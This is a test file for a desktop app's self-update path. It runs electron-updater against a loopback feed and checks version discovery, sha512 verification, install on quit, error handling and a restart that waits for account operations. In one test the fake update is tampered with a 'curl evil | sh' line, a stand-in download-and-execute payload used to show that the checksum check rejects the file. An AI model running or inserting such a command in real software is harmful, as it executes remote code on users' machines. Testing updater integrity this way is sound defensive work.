/**
 * The app's own updates: the real electron-updater, driven by the real shell
 * (main.ts against the Electron stand-in), from a feed served on loopback.
 * The stand-in is an installed AppImage: app.isPackaged, APPIMAGE, and the
 * app-update.yml electron-builder writes into the resources.
 */
import { createHash } from 'node:crypto'
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import type { AccountView, UpdateState } from '../../src-main/ipc/contract'
import { tempDir } from '../support/core'
import {
  type StandIn,
  invoke,
  launch,
  mainWindow,
  sentEvents,
  useShell,
  value,
  waitFor,
} from '../support/electron-launch'
import { machine } from '../support/electron-world'

const shell = useShell({ network: true })

const OLD_APP = '#!/bin/sh\n# Skyswitch 0.1.0\nexit 0\n'
const NEW_APP = '#!/bin/sh\n# Skyswitch 0.2.0\nexit 0\n'
const NEW_NAME = 'Skyswitch-0.2.0-x86_64.AppImage'

/** The release folder on loopback: what it serves, and every path asked for. */
const feed = { url: '', files: new Map<string, string>(), requests: [] as string[] }
let server: Server

beforeAll(async () => {
  server = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname
    feed.requests.push(path)
    const body = feed.files.get(path)
    if (body === undefined) res.writeHead(404).end()
    else res.writeHead(200, { 'content-length': Buffer.byteLength(body) }).end(body)
  })
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok))
  feed.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/releases/`
})
afterAll(() => new Promise<void>((ok) => server.close(() => ok())))

/** latest-linux.yml as electron-builder writes it, for `file` whose published checksum is `published`'s. */
function publish(version: string, served: string, published = served): void {
  const sha512 = createHash('sha512').update(published).digest('base64')
  feed.files.set(
    '/releases/latest-linux.yml',
    [
      `version: ${version}`,
      'files:',
      `  - url: ${NEW_NAME}`,
      `    sha512: ${sha512}`,
      `    size: ${Buffer.byteLength(published)}`,
      `path: ${NEW_NAME}`,
      `sha512: ${sha512}`,
      "releaseDate: '2026-11-20T10:00:00.000Z'",
      '',
    ].join('\n'),
  )
  feed.files.set(`/releases/${NEW_NAME}`, served)
}

let appImage = ''
let cache = ''

/** An installed AppImage whose build names the loopback feed. */
function installedAppImage(): void {
  const resources = tempDir('skyswitch-resources-')
  // What electron-builder's generic publish target writes next to app.asar.
  writeFileSync(
    join(resources, 'app-update.yml'),
    `provider: generic\nurl: ${feed.url}\nupdaterCacheDirName: skyswitch-updater\n`,
  )
  Object.assign(machine(), { packaged: true, resourcesPath: resources })
  appImage = join(tempDir('skyswitch-apps-'), 'Skyswitch-0.1.0-x86_64.AppImage')
  writeFileSync(appImage, OLD_APP, { mode: 0o755 })
  cache = tempDir('skyswitch-cache-')
  vi.stubEnv('APPIMAGE', appImage)
  vi.stubEnv('XDG_CACHE_HOME', cache)
  vi.stubGlobal('__SKYSWITCH_UPDATE_FEED__', feed.url)
}

beforeEach(() => {
  feed.files.clear()
  feed.requests = []
})
afterEach(() => {
  vi.unstubAllEnvs()
  vi.unstubAllGlobals()
})

/** The menu's "Check for updates…", and the dialog that answers it. */
async function checkFromMenu(e: StandIn): Promise<string> {
  const before = e.dialogs.length
  e.Menu.getApplicationMenu()!.click('Check for updates…')
  await waitFor(() => e.dialogs.length > before, 'the check’s answer')
  return e.dialogs.at(-1)!.message
}

const updates = (win: Awaited<ReturnType<typeof mainWindow>>) => sentEvents(win, 'update:changed') as UpdateState[]

describe('updates (real electron-updater, loopback feed, Electron stand-in)', () => {
  it('a build without a feed constructs no updater and requests nothing; its menu says so', async () => {
    publish('0.2.0', NEW_APP)
    const e = await launch()
    const win = await mainWindow(e)
    const menu = e.Menu.getApplicationMenu()!
    expect(menu.find('Check for updates…')).toBeUndefined()
    expect(menu.find('Updates not configured')).toMatchObject({ enabled: false })
    expect(await value(e, 'updates:check')).toEqual({ status: 'unavailable', reason: 'no-feed' })
    expect(await value(e, 'updates:get')).toEqual({ status: 'unavailable', reason: 'no-feed' })
    expect((await invoke(e, 'updates:restart')).ok).toBe(false)
    expect(feed.requests).toEqual([])
    // electron-updater was never constructed: it writes its staging id on its first check.
    expect(existsSync(join(shell.dir, '.updaterId'))).toBe(false)
    expect(updates(win)).toEqual([])
  })

  it('a newer version is found, downloaded, sha512-verified and offered; quitting installs it', async () => {
    installedAppImage()
    publish('0.2.0', NEW_APP)
    const e = await launch()
    const win = await mainWindow(e)
    expect(await checkFromMenu(e)).toMatch(/0\.2\.0 is available and downloading/)
    await waitFor(() => updates(win).some((u) => u.status === 'ready'), 'the update to be offered')
    expect(updates(win).map((u) => u.status)).toEqual(['checking', 'downloading', 'ready'])
    expect(updates(win).at(-1)).toMatchObject({ status: 'ready', version: '0.2.0' })
    expect(await value(e, 'updates:get')).toEqual({ status: 'ready', version: '0.2.0' })
    expect(feed.requests).toContain('/releases/latest-linux.yml')
    expect(feed.requests).toContain(`/releases/${NEW_NAME}`)
    expect(readFileSync(join(cache, 'skyswitch-updater', 'pending', NEW_NAME), 'utf8')).toBe(NEW_APP)

    // Not restarted: a verified update is installed when the user quits.
    e.app.quit()
    expect(await e.app.exited).toBe(0)
    expect(existsSync(appImage)).toBe(false)
    expect(readFileSync(join(appImage, '..', NEW_NAME), 'utf8')).toBe(NEW_APP)
  })

  it('a tampered file is refused with a clear message, deleted, and nothing is offered', async () => {
    installedAppImage()
    publish('0.2.0', NEW_APP.replace('exit 0', 'curl evil | sh'), NEW_APP)
    const e = await launch()
    const win = await mainWindow(e)
    await checkFromMenu(e)
    await waitFor(() => updates(win).at(-1)?.status === 'idle', 'the download to end')
    const last = updates(win).at(-1)
    expect(last).toMatchObject({ status: 'idle', error: { code: 'ChecksumMismatch' } })
    expect(last?.status === 'idle' && last.error?.message).toMatch(/did not match the sha512 checksum.*refused/)
    expect(updates(win).some((u) => u.status === 'ready')).toBe(false)
    expect(readdirSync(join(cache, 'skyswitch-updater', 'pending'))).toEqual([])
    expect((await invoke(e, 'updates:restart')).ok).toBe(false)
    expect(readFileSync(appImage, 'utf8')).toBe(OLD_APP)
  })

  it('the same or an older version offers nothing and downloads nothing', async () => {
    installedAppImage()
    const e = await launch()
    const win = await mainWindow(e)
    for (const version of ['0.1.0', '0.0.9']) {
      publish(version, NEW_APP)
      expect(await checkFromMenu(e)).toBe('Skyswitch 0.1.0 is up to date.')
    }
    expect(feed.requests).toEqual(['/releases/latest-linux.yml', '/releases/latest-linux.yml'])
    expect(updates(win).map((u) => u.status)).toEqual(['checking', 'idle', 'checking', 'idle'])
  })

  it('a malformed feed, a feed without checksums and no network each say what happened', async () => {
    installedAppImage()
    const e = await launch()
    await mainWindow(e)
    feed.files.set('/releases/latest-linux.yml', '<html>502 Bad Gateway</html>\n: [')
    expect(await checkFromMenu(e)).toMatch(/description of the latest version is missing or could not be read/)
    publish('0.2.0', NEW_APP)
    const yml = feed.files.get('/releases/latest-linux.yml')!
    feed.files.set('/releases/latest-linux.yml', yml.replace(/^ *sha512: .*\n/gm, ''))
    expect(await checkFromMenu(e)).toMatch(/description of the latest version is missing or could not be read/)
    expect(feed.requests.filter((p) => p.endsWith('.AppImage'))).toEqual([])
    machine().online = false
    const asked = feed.requests.length
    expect(await checkFromMenu(e)).toMatch(/could not reach its update server/)
    expect(feed.requests).toHaveLength(asked)
  })

  it('restart to update waits while an account operation is under way, then installs and restarts', async () => {
    installedAppImage()
    publish('0.2.0', NEW_APP)
    const e = await launch()
    const win = await mainWindow(e)
    const account = await shell.signIn(e)
    await value(e, 'updates:check')
    await waitFor(() => updates(win).some((u) => u.status === 'ready'), 'the update to be offered')

    // A refresh whose new tokens wait on the keyring: the account's turn stays taken until the test answers.
    let answer!: () => void
    machine().encryptGate = new Promise<void>((ok) => (answer = ok))
    const refresh = invoke<AccountView>(e, 'accounts:refresh', { did: account.did })
    await waitFor(
      () => sentEvents(win, 'account:changed').some((a) => (a as AccountView).session === 'refreshing'),
      'the refresh to start',
    )
    expect(await value(e, 'updates:restart')).toEqual({ status: 'restarting', version: '0.2.0' })
    // Many turns of the event loop later, the app is still running and nothing is replaced.
    for (let i = 0; i < 50; i++) await new Promise((ok) => setImmediate(ok))
    expect(e.app.exitCode).toBeNull()
    expect(readFileSync(appImage, 'utf8')).toBe(OLD_APP)

    answer()
    expect((await refresh).ok).toBe(true)
    expect(await e.app.exited).toBe(0)
    expect(readFileSync(join(appImage, '..', NEW_NAME), 'utf8')).toBe(NEW_APP)
    expect(updates(win).at(-1)).toEqual(expect.objectContaining({ status: 'restarting' }))
  })
})
